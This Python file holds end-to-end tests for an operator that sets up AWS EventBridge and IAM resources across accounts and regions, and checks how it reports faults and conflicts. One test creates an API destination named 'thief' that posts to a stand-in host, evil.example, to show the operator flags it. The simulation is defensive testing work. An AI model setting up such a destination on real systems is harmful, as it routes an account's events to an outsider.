"""What may be wrong with one account or region: told where it is, while the others are made right."""

import json
from typing import Any

from sandbox.deployment import Replica
from tests.e2e.tenant import EXTERNAL_ID, OBJECT, Tenant
from zerotouch.aws.policy import account_policy


def with_a_good_one(tenant: Tenant, bad: str, **spec: Any) -> str:
    """Apply an object with the bad account and a good one; answers the good one once it is Ready."""
    good = tenant.account(99)
    tenant.credentials()
    tenant.apply(bad, good, **{"interval": "30s", **spec})
    tenant.wait(lambda: tenant.get("qzta", f"{OBJECT}-{good}") is not None)
    tenant.ready(kind="qzta", name=f"{OBJECT}-{good}")
    return good


def test_a_role_that_does_not_exist(operator: Replica, tenant: Tenant) -> None:
    missing = f"{tenant.account(1, role_name='other')}"
    with_a_good_one(tenant, missing)
    told = tenant.until("AssumeRoleDenied", kind="qzta", name=f"{OBJECT}-{missing}")
    assert "sts:AssumeRole" in told["message"]
    assert "check that the role exists" in told["message"]
    tenant.until("AccountsNotReady", f"{OBJECT}-{missing}: AssumeRoleDenied")
    # The good one may be at work still when that is told.
    tenant.wait(lambda: [w["id"] for w in tenant.object()["status"]["worst"]] == [missing])


def test_a_wrong_external_id_is_told_without_showing_it(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1, external_id="another-id")
    with_a_good_one(tenant, account)
    told = tenant.until("AssumeRoleDenied", "ExternalId", kind="qzta", name=f"{OBJECT}-{account}")
    assert EXTERNAL_ID not in told["message"]
    assert EXTERNAL_ID not in operator.log()


def test_a_missing_permission_names_action_and_resource_and_heals(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1)
    policy = account_policy("aws", account, "qualys-zerotouch")
    without = json.loads(json.dumps(policy).replace('"events:PutRule",', ""))
    assert without != policy
    tenant.aws.set_policy(account, without)
    with_a_good_one(tenant, account)
    told = tenant.until("AccessDenied", "events:PutRule", kind="qzta", name=f"{OBJECT}-{account}")
    assert f":{account}:rule/qualys-zerotouch" in told["message"]
    tenant.aws.set_policy(account, policy)
    tenant.ready()


def test_a_region_that_is_not_enabled_is_only_that_region(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1, regions=["us-east-1", "us-west-2"])
    tenant.credentials()
    tenant.apply(account, regions={"names": ["us-east-1", "eu-west-1", "us-west-2", "xx-nowhere-1"]}, interval="30s")
    tenant.until("RegionNotEnabled", kind="qzta", name=f"{OBJECT}-{account}")
    states = {r["name"]: (r["state"], r.get("reason")) for r in tenant.child(account)["status"]["regions"]}
    assert states == {
        "global": ("Ready", None),
        "us-east-1": ("Ready", None),
        "us-west-2": ("Ready", None),
        "eu-west-1": ("NotReady", "RegionNotEnabled"),
        "xx-nowhere-1": ("NotReady", "RegionUnsupported"),
    }
    assert tenant.child(account)["status"]["readyRegions"] == "2/4"
    tenant.patch({"regions": {"names": ["us-east-1", "eu-west-1", "us-west-2"]}})
    tenant.aws.set_regions(account, ["us-east-1", "eu-west-1", "us-west-2"])
    tenant.ready()


def test_a_name_taken_by_others_is_a_conflict_and_stays_theirs(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1)
    events = tenant.aws.client("events", account)
    events.put_rule(Name="qualys-zerotouch", ScheduleExpression="rate(1 day)", Description="theirs")
    with_a_good_one(tenant, account)
    told = tenant.until("Conflict", "qualys-zerotouch", kind="qzta", name=f"{OBJECT}-{account}")
    assert "us-east-1" in told["message"]
    rule = events.describe_rule(Name="qualys-zerotouch")
    assert (rule["ScheduleExpression"], rule["Description"]) == ("rate(1 day)", "theirs")
    tenant.wait(lambda: "zerotouch_conflicts 1.0" in operator.metrics())
    tenant.kubectl("delete", "qzt", OBJECT, "--timeout=90s")
    assert events.describe_rule(Name="qualys-zerotouch")["Description"] == "theirs"


def test_a_rule_that_delivers_twice_is_told_and_left(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1)
    tenant.credentials()
    tenant.apply(account, interval="30s")
    tenant.ready()
    events, child = tenant.aws.client("events", account), f"{OBJECT}-{account}"
    assert tenant.condition(tenant.child(account), "Exclusive")["status"] == "True"
    (target,) = events.list_targets_by_rule(Rule="qualys-zerotouch")["Targets"]
    pattern = events.describe_rule(Name="qualys-zerotouch")["EventPattern"]
    events.put_rule(Name="theirs", EventPattern=pattern)
    events.put_targets(Rule="theirs", Targets=[{k: target[k] for k in ("Id", "Arn", "RoleArn")}])
    tenant.annotate("qzta", child, "zerotouch.dev/requestedAt=now")
    tenant.wait(lambda: tenant.condition(tenant.child(account), "Exclusive")["reason"] == "DeliveredTwice")
    assert "rule/theirs to arn:aws:events:" in tenant.condition(tenant.child(account), "Exclusive")["message"]
    tenant.wait(lambda: tenant.condition(tenant.object(), "Exclusive").get("reason") == "DeliveredTwice")
    assert tenant.condition(tenant.child(account), "Ready")["status"] == "True"
    tenant.wait(lambda: "zerotouch_duplicate_deliveries 1.0" in operator.metrics())
    tenant.told("DeliveredTwice")
    assert events.describe_rule(Name="theirs")["State"] == "ENABLED"
    events.disable_rule(Name="theirs")
    tenant.annotate("qzta", child, "zerotouch.dev/requestedAt=again")
    tenant.wait(lambda: tenant.condition(tenant.child(account), "Exclusive")["status"] == "True")
    tenant.wait(lambda: "zerotouch_duplicate_deliveries 0.0" in operator.metrics())


def test_a_foreign_api_destination_on_our_connection_is_told_and_left(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1)
    tenant.credentials()
    tenant.apply(account, interval="30s")
    tenant.ready()
    events = tenant.aws.client("events", account)
    ours = events.describe_connection(Name="qualys-zerotouch")["ConnectionArn"]
    events.create_api_destination(
        Name="thief", ConnectionArn=ours, InvocationEndpoint="https://evil.example/x", HttpMethod="POST"
    )
    tenant.annotate("qzta", f"{OBJECT}-{account}", "zerotouch.dev/requestedAt=now")
    tenant.until("ForeignAPIDestination", "thief", kind="qzta", name=f"{OBJECT}-{account}")
    assert tenant.condition(tenant.child(account), "Secure")["status"] == "False"
    tenant.wait(lambda: "zerotouch_foreign_api_destinations 1.0" in operator.metrics())
    tenant.told("ForeignAPIDestination")
    assert events.describe_api_destination(Name="thief")["Name"] == "thief"
    events.delete_api_destination(Name="thief")
    tenant.ready(kind="qzta", name=f"{OBJECT}-{account}")
    assert tenant.condition(tenant.child(account), "Secure")["status"] == "True"


def test_faults_of_aws_are_ridden_out(operator: Replica, tenant: Tenant) -> None:
    account = tenant.account(1)
    for kind in ("throttle", "error500", "lost", "drop"):
        tenant.aws.add_fault(kind, account=account, service="events", count=3)
    tenant.credentials()
    tenant.apply(account)
    tenant.ready()
    assert len(tenant.held(account)) == 13
    tenant.kubectl("delete", "qzt", OBJECT, "--timeout=90s")
    assert tenant.held(account) == []


def test_a_connector_role_is_made_and_an_existing_one_is_only_attached_to(operator: Replica, tenant: Tenant) -> None:
    own, existing = tenant.account(1), tenant.account(2, existing_connector_role="theirs")
    iam = tenant.aws.client("iam", existing)
    iam.create_role(RoleName="theirs", AssumeRolePolicyDocument="{}")
    tenant.credentials()
    role = {"name": "qualys-connector", "trustedAccountID": "123456789012", "externalID": "canary-connector-id"}
    tenant.apply(own, connector={"role": role}, name="own")
    tenant.apply(existing, connector={"existingRoleName": "theirs"}, name="existing")
    tenant.ready("own")
    tenant.ready("existing")
    made = tenant.aws.client("iam", own)
    trust = made.get_role(RoleName="qualys-connector")["Role"]["AssumeRolePolicyDocument"]
    assert trust["Statement"][0]["Condition"]["StringEquals"]["sts:ExternalId"] == ["canary-connector-id"]
    attached = iam.list_attached_role_policies(RoleName="theirs")["AttachedPolicies"]
    assert [a["PolicyName"] for a in attached] == ["qualys-zerotouch-connector"]
    assert "canary-connector-id" not in operator.log() + operator.metrics()
    tenant.kubectl("delete", "qzt", "--all", "--timeout=90s")
    assert tenant.held(own) == []
    assert tenant.held(existing) == ["Role global theirs"]
